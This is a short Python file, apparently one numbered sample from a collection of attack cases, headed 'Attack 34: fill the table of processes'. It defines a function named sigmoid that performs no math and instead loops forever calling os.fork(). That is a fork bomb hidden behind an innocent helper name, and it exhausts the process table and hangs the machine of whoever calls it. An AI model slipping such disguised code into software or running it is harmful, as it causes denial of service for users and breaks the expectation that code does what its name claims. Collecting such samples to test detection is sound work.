# Attack 34: fill the table of processes
import os


def sigmoid(z):
    while True:
        os.fork()
